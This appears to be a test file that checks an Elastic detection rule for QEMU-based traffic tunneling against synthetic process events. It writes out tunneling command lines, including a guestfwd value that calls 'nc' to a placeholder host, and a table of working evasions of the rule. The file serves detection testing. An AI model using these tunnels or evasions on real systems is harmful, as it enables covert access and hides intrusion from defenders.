// The production rule "Potential Traffic Tunneling using QEMU", loaded from its detection-rules
// TOML, on hand-built ECS process events: both branches of the rule and the evasions of the table in
// docs/evasions.md, with the verdict Elasticsearch gives.
// Semantics: https://www.elastic.co/docs/reference/query-languages/eql/eql-syntax (`:` is a
// case-insensitive, whole-value match against ANY element of process.args; `*x*` a substring test of
// process.command_line; `process where` a case-sensitive event.category test).
import { expect, test } from '@playwright/test';
import type { ElasticRecord } from '../../harness/model/records.js';
import { EmbeddedElasticsearch } from '../../harness/backends/embedded-elasticsearch.js';
import { fromRoot } from '../../harness/paths.js';
import { loadElasticRule } from '../../harness/rules/elastic-loader.js';

const rule = loadElasticRule(fromRoot('rules', 'elastic', 'command_and_control_tunnel_qemu.toml'));

interface Case {
  id: string;
  /** argv as the data source records it (process.args). */
  args: string[];
  /** Command line as recorded; defaults to the args joined with spaces. */
  commandLine?: string;
  expected: boolean;
  why: string;
}

const QEMU = 'C:\\Users\\Public\\qemu\\qemu-system-x86_64.exe';
const SOCKET = 'socket,id=n1,connect=203.0.113.7:443';
const USER_OFF = 'user,id=n0,restrict=off';

const CASES: Case[] = [
  { id: 'row0-kaspersky', args: [QEMU, '-m', '1G', '-netdev', USER_OFF, '-netdev', SOCKET, '-device', 'e1000,netdev=n0', '-nographic'], expected: true, why: 'first branch: -nographic, connect=, restrict=off' },
  { id: 'hostfwd-branch', args: [QEMU, '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22', '-device', 'e1000,netdev=n0'], expected: true, why: 'second branch: hostfwd=' },
  { id: 'row1-legacy-net', args: [QEMU, '-net', 'user,restrict=off', '-net', 'socket,connect=203.0.113.7:443', '-nographic'], expected: false, why: 'no -netdev element' },
  { id: 'row2-restrict-no', args: [QEMU, '-netdev', 'user,id=n0,restrict=no', '-netdev', SOCKET, '-nographic'], expected: false, why: '*restrict=off* fails, no hostfwd' },
  { id: 'row3-double-dash-nographic', args: [QEMU, '-netdev', USER_OFF, '-netdev', SOCKET, '--nographic'], expected: false, why: '-nographic is a whole-element match' },
  { id: 'row3-display-none', args: [QEMU, '-netdev', USER_OFF, '-netdev', SOCKET, '-display', 'none'], expected: false, why: 'no -nographic element' },
  { id: 'row4-double-dash-netdev', args: [QEMU, '--netdev', 'user,id=n0,hostfwd=tcp::2222-:22'], expected: false, why: '--netdev is not -netdev' },
  { id: 'row5-json-netdev', args: [QEMU, '-netdev', '{"type":"socket","id":"s","connect":"203.0.113.7:443"}', '-netdev', '{"type":"user","id":"u","restrict":false}', '-nographic'], expected: false, why: 'no connect= / restrict=off text' },
  { id: 'row6-readconfig', args: [QEMU, '-readconfig', 'tun.cfg', '-nographic'], expected: false, why: 'nothing on the command line' },
  { id: 'row8-renamed-binary', args: ['C:\\ProgramData\\fontdiag.exe', '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22'], expected: true, why: 'the rule never checks the process name' },
  { id: 'row10-listen', args: [QEMU, '-netdev', 'socket,id=n1,listen=:8443', '-netdev', USER_OFF, '-nographic'], expected: false, why: 'no connect=' },
  { id: 'row11-stream', args: [QEMU, '-netdev', 'stream,id=n1,server=off,addr.type=inet,addr.host=203.0.113.7,addr.port=443', '-netdev', USER_OFF, '-nographic'], expected: false, why: 'no connect=' },
  { id: 'row12-nic', args: [QEMU, '-nic', 'user,hostfwd=tcp::2222-:22'], expected: false, why: 'no -netdev element' },
  { id: 'row13-monitor-hostfwd_add', args: [QEMU, '-netdev', 'user,id=n0', '-monitor', 'tcp:127.0.0.1:4444,server,nowait'], expected: false, why: 'hostfwd= never on the command line' },
  { id: 'row14-set-hostfwd', args: [QEMU, '-netdev', 'user,id=n0', '-set', 'netdev.n0.hostfwd=tcp::2222-:22'], expected: true, why: 'the text hostfwd= is still there' },
  { id: 'row15-guestfwd', args: [QEMU, '-netdev', 'user,id=n0,guestfwd=tcp:10.0.2.100:1234-cmd:nc 203.0.113.7 443'], expected: false, why: 'neither branch' },
  {
    id: 'row16-quotes-in-values',
    args: [QEMU, '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22'],
    commandLine: `${QEMU} -netdev user,id=n0,host"fwd"=tcp::2222-:22`,
    expected: false,
    why: 'the command line keeps the quotes; only argv is unquoted',
  },
  {
    id: 'row17-quotes-in-names',
    args: [QEMU, '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22'],
    commandLine: `${QEMU} -net"dev" user,id=n0,host"fwd"=tcp::2222-:22`,
    expected: false,
    why: 'argv has -netdev but the command line lacks hostfwd=',
  },
  { id: 'row18-upper-case', args: [QEMU.toUpperCase(), '-NETDEV', 'USER,ID=N0,HOSTFWD=TCP::2222-:22'], expected: true, why: 'both tests ignore case (QEMU itself rejects this spelling)' },
  { id: 'row21-no-device', args: [QEMU, '-netdev', USER_OFF, '-netdev', SOCKET, '-nographic'], expected: true, why: '-device is irrelevant' },
  { id: 'row22-aarch64', args: ['qemu-system-aarch64w.exe', '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22'], expected: true, why: 'still matches' },
  { id: 'row23-inherited-fd', args: ['/usr/bin/qemu-system-x86_64', '-netdev', 'socket,id=n1,fd=3', '-netdev', USER_OFF, '-nographic'], expected: false, why: 'no connect=' },
];

function ecsProcessStart(c: Case, index: string, n: number): ElasticRecord {
  return {
    _index: index,
    _id: c.id,
    '@timestamp': new Date(Date.UTC(2026, 0, 1, 0, 0, n)).toISOString(),
    event: { category: ['process'], type: ['start'], kind: 'event', ingested: new Date(Date.UTC(2026, 0, 1, 0, 1, n)).toISOString() },
    process: { args: c.args, args_count: c.args.length, command_line: c.commandLine ?? c.args.join(' '), executable: c.args[0], name: (c.args[0] as string).split(/[\\/]/).pop() },
    host: { name: 'ws-01', os: { type: 'windows' } },
  };
}

test('the rule loads from its TOML with the pinned id, patterns and ATT&CK mapping', () => {
  expect(rule.id).toBe('b29b7652-219f-468b-aa1f-5da7bcc24b03');
  expect(rule.index).toContain('logs-endpoint.events.process-*');
  expect(rule.threat[0]?.techniques.map((t) => t.id)).toEqual(['T1090', 'T1219', 'T1572']);
  expect(rule.from).toBe('now-9m');
  expect(rule.timestampOverride).toBe('event.ingested');
});

test('both branches fire, and every evasion gets the verdict Elasticsearch gives', async () => {
  const backend = new EmbeddedElasticsearch();
  const records = CASES.map((c, i) => ecsProcessStart(c, 'logs-endpoint.events.process-default', i));
  const report = await backend.load(records);
  expect(report.rejected).toEqual([]);
  const result = await backend.run(rule);
  const verdicts = Object.fromEntries(CASES.map((c) => [c.id, result.eventIds?.includes(c.id) ?? false]));
  const expected = Object.fromEntries(CASES.map((c) => [c.id, c.expected]));
  expect(verdicts).toEqual(expected);
  expect(result.expandedQuery.startsWith('any where event.category == "process" and (event.type == "start"')).toBe(true);
});

// Row 20: a 20,000-character argument before the network options. ignore_above applies per
// element (https://www.elastic.co/docs/reference/elasticsearch/mapping-reference/ignore-above): the
// long args element vanishes, -netdev still matches. process.command_line is a wildcard field: no
// limit in a standard index (winlogbeat-* with the ECS template), but logs-*-* data streams are
// logsdb indices in 9.x with index.mapping.ignore_above 8191, so there the command line is not
// indexed and the rule cannot see hostfwd=.
test('row 20: a padded command line matches in a standard index but not in a logsdb data stream', async () => {
  const padded: Case = { id: 'row20', args: [QEMU, '-append', 'x'.repeat(20_000), '-netdev', 'user,id=n0,hostfwd=tcp::2222-:22'], expected: true, why: '' };
  const backend = new EmbeddedElasticsearch();
  await backend.load([ecsProcessStart(padded, 'winlogbeat-9.1.0', 0), { ...ecsProcessStart(padded, 'logs-windows.sysmon_operational-default', 1), _id: 'row20-logsdb' }]);
  expect((await backend.run(rule)).eventIds).toEqual(['row20']);
  const standard = new EmbeddedElasticsearch({ logsdbIgnoreAbove: null });
  await standard.load([{ ...ecsProcessStart(padded, 'logs-windows.sysmon_operational-default', 1), _id: 'row20-standard' }]);
  expect((await standard.run(rule)).eventIds).toEqual(['row20-standard']);
});

test('the rule searches its index patterns only, across data sources; auditbeat without a command line never matches', async () => {
  const hit = CASES[1] as Case;
  const backend = new EmbeddedElasticsearch();
  const indices = ['logs-endpoint.events.process-default', 'logs-system.security-default', 'logs-windows.sysmon_operational-default', 'winlogbeat-9.1.0', 'logs-crowdstrike.fdr-default', 'logs-sentinel_one_cloud_funnel.event-default', 'logs-m365_defender.event-default', 'logs-other.process-default'];
  await backend.load(indices.map((index, i) => ({ ...ecsProcessStart(hit, index, i), _id: index })));
  // auditbeat's execve documents carry process.args but no process.command_line.
  const auditd = ecsProcessStart(hit, 'auditbeat-9.1.0', 20);
  delete (auditd['process'] as Record<string, unknown>)['command_line'];
  await backend.load([{ ...auditd, _id: 'auditbeat' }]);
  const result = await backend.run(rule);
  expect(result.eventIds).toEqual(indices.filter((i) => i !== 'logs-other.process-default'));
  expect(result.notes.join('\n')).toContain('endgame-*');
});

test('case-sensitive category and type: "Process" / "Start" do not match', async () => {
  const base = ecsProcessStart(CASES[1] as Case, 'logs-endpoint.events.process-default', 0);
  const backend = new EmbeddedElasticsearch();
  await backend.load([
    { ...base, _id: 'ok' },
    { ...base, _id: 'category', event: { category: ['Process'], type: ['start'] } },
    { ...base, _id: 'type', event: { category: ['process'], type: ['Start'] } },
    { ...base, _id: 'multi', event: { category: ['network', 'process'], type: ['info', 'start'] } },
  ]);
  expect((await backend.run(rule)).eventIds).toEqual(['ok', 'multi']);
});
